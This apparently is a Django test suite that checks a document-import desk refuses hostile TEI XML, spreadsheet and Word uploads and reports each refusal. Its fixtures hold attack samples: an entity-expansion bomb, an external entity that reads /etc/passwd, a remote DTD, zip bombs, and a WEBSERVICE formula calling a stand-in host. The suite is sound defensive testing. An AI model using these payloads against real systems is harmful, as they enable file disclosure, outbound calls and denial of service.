"""Hostile TEI, spreadsheets and Word files through the forms of the desk: told in words, nothing comes in."""

import socket
import zipfile
from io import BytesIO

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile

from documents.exchange.importing import batches
from documents.models import Document, ImportBatch, Imported
from documents.models.importing import ImportState
from people.models import Person
from tests.documents.exchange.word.conftest import W, word_file
from tests.documents.importing import hostile
from tests.documents.importing.test_desk import ended
from tests.forms import desk

BOMB = '<!DOCTYPE a [<!ENTITY x0 "ha">' + "".join(
    f'<!ENTITY x{n} "{f"&x{n - 1};" * 10}">' for n in range(1, 12)
)
LETTER = hostile.letter("<p>word</p>").decode()


def zipped(**parts: str | bytes) -> bytes:
    """A ZIP archive, as .docx and .xlsx are; a part called `word__document.xml` lies in the folder `word`."""
    data = BytesIO()
    with zipfile.ZipFile(data, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, part in parts.items():
            archive.writestr(name.replace("__", "/"), part)
    return data.getvalue()


TEI = {
    "doctype.xml": (f"<!DOCTYPE TEI>{LETTER}".encode(), 1, "DOCTYPE"),
    "bomb.xml": (f"\n{BOMB}]><a>&x11;</a>".encode(), 2, "DOCTYPE"),
    "outside.xml": (b'<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>', 1, "DOCTYPE"),
    "network.xml": (b'<!DOCTYPE a SYSTEM "http://192.0.2.1/a.dtd"><a/>', 1, "DOCTYPE"),
    "deep.xml": (hostile.letter("<hi>" * 200 + "</hi>" * 200), 2, "100 elements stand one within the other"),
    "long.xml": (hostile.letter(f"<p>{'word ' * 3_900_000}</p>"), 2, "Divide it into paragraphs"),
    "many.xml": (hostile.volume(hostile.document(hostile.notes(200_000))), 3, "2,000 elements “note”"),
    "bytes.xml": (b"<a>\nab\xe9</a>", 2, "Save the file as UTF-8"),
    "encoding.xml": (b'<?xml version="1.0" encoding="utf-99"?><a/>', 1, "Save the file as UTF-8"),
    "words.xml": (b"some words", 1, "not XML"),
    "blank.xml": (b" \n", 1, "The file is empty"),
    "nul.xml": (b"<a>\n\0</a>", 2, "not well-formed"),
    "half.xml": (LETTER[:-5].encode(), 2, "not well-formed"),
    "zipped.xml": (zipped(letter=LETTER), 1, "ZIP archive"),
    "word.xml": (word_file("<w:p/>"), 1, "ZIP archive"),
    "other.xml": (b"<html/>", 0, "none of the forms"),
}


@pytest.fixture(autouse=True)
def no_network(monkeypatch):
    def refuse(*args, **kwargs):
        raise AssertionError("a file made the program reach out")

    monkeypatch.setattr(socket.socket, "connect", refuse)


def nothing_came_in() -> bool:
    return not any(model.objects.exists() for model in (Document, Imported, Person))


@pytest.mark.django_db(transaction=True, serialized_rollback=True)
def test_hostile_tei_is_told_in_the_dry_run_and_the_run_and_the_rest_goes_in():
    client = desk("editor")
    files = [SimpleUploadedFile(name, data) for name, (data, _, _) in TEI.items()]
    answer = client.post(
        "/admin/import/", {"chosen": [*files, SimpleUploadedFile("good.xml", LETTER.encode())]}
    )
    assert answer.status_code == 302
    trial = ended(ImportBatch.objects.get())
    told_of(trial, client.get(answer["Location"]).content.decode())
    assert nothing_came_in()
    answer = client.post(answer["Location"], {"act": "start"})
    made = ended(ImportBatch.objects.first())
    told_of(made, client.get(answer["Location"]).content.decode())
    assert Document.objects.get().title == "A letter"


def told_of(batch: ImportBatch, page: str) -> None:
    """Each hostile file is told by its name, with a sentence and its line; none stops the import."""
    assert (batch.state, batch.counts["file refused"]) == (ImportState.DONE, len(TEI))
    told = {line["file"]: line for line in batches.report(batch) if line["what"] == "refused"}
    for name, (_, line, said) in TEI.items():
        assert said in told[name]["told"][0], name
        assert told[name]["line"] == line, name
        assert name in page


@pytest.mark.django_db
@pytest.mark.parametrize(
    ("name", "data", "said"),
    [
        ("nothing.xml", b"", "nothing.xml is empty"),
        ("large.xml", bytes(20_000_001), "large.xml: a file can have 20 MB"),
        ("letter.docx", b"PK", "letter.docx: a text from Word is taken in on the form of its document"),
        ("people.xlsx", b"PK", "people.xlsx: a spreadsheet is taken in by"),
    ],
    ids=["empty", "too large", "Word", "sheet"],
)
def test_an_empty_and_a_too_large_file_are_told_in_the_form(name, data, said):
    answer = desk("editor").post("/admin/import/", {"chosen": SimpleUploadedFile(name, data)})
    assert answer.status_code == 400
    assert said in answer.content.decode()
    assert not ImportBatch.objects.exists()


SHEETS = {
    "a zip bomb": (zipped(**{"xl__a.bin": bytes(100_000_000)}), "more than 40 MB"),
    "a doctype": (zipped(**{"a.xml": f"{BOMB}]><a>&x11;</a>"}), "DOCTYPE"),
    "another archive": (zipped(a="words"), "could not be read"),
    "a formula": (None, "Row 2, column 2: this is a formula"),
    "too many rows": (b"public_id,title\n" + b",A\n" * 20_001, "more than 20,000 rows"),
    "too many columns": (b",".join(b"c%d" % n for n in range(300)), "more than 200 columns"),
    "an endless cell": (b"public_id,title\n," + b"x" * 1_000_001, "Line 2"),
    "too large": (bytes(20 * 1024 * 1024 + 1), "larger than 20 MB"),
    "nul": (b"public_id,title\n,A\x00\n", "NUL"),
    "semicolons between names nobody knows": (b"one;two\n;A\n", "divided by semicolons"),
    "two separators": (b"public_id,x;title\n,A;B\n", "It is not certain what divides the columns"),
}


def with_a_formula() -> bytes:
    from openpyxl import Workbook

    book, data = Workbook(), BytesIO()
    book.active.append(["public_id", "title"])
    book.active.append(["", '=WEBSERVICE("http://192.0.2.1/")'])
    book.save(data)
    return data.getvalue()


@pytest.mark.django_db
@pytest.mark.parametrize(("data", "said"), SHEETS.values(), ids=SHEETS)
def test_a_hostile_spreadsheet_is_told_in_its_form(settings, data, said):
    file = SimpleUploadedFile("sheet.xlsx", with_a_formula() if data is None else data)
    answer = desk("editor").post("/admin/spreadsheets/documents/", {"file": file})
    assert answer.status_code == 400
    assert said in answer.content.decode()
    assert nothing_came_in()
    assert not (settings.DATA_DIR / "spreadsheets").exists()


WORDS = {
    "a zip bomb": (word_file("<w:p/>", big=" " * 100_000_000), "more than 2 MB"),
    "a doctype": (
        zipped(**{"word__document.xml": f"{BOMB}]><w:document {W}>&x11;</w:document>"}),
        "DOCTYPE",
    ),
    "too deep": (word_file("<w:p>" * 300 + "</w:p>" * 300), "one within the other"),
    "too many paragraphs": (word_file("<w:p/>" * 60_001), "runs and other elements"),
    "another archive": (zipped(a="words"), "no text of Word"),
    "TEI": (LETTER.encode(), "no Word file"),
    "too large": (bytes(20 * 1024 * 1024 + 1), "larger than 20 MB"),
}


@pytest.mark.django_db
@pytest.mark.parametrize(("data", "said"), WORDS.values(), ids=WORDS)
def test_a_hostile_word_file_is_told_in_its_form(data, said):
    file = SimpleUploadedFile("letter.docx", data)
    page = desk("editor").post("/admin/documents/document/word/", {"file": file}).content.decode()
    assert said in page
    assert nothing_came_in()
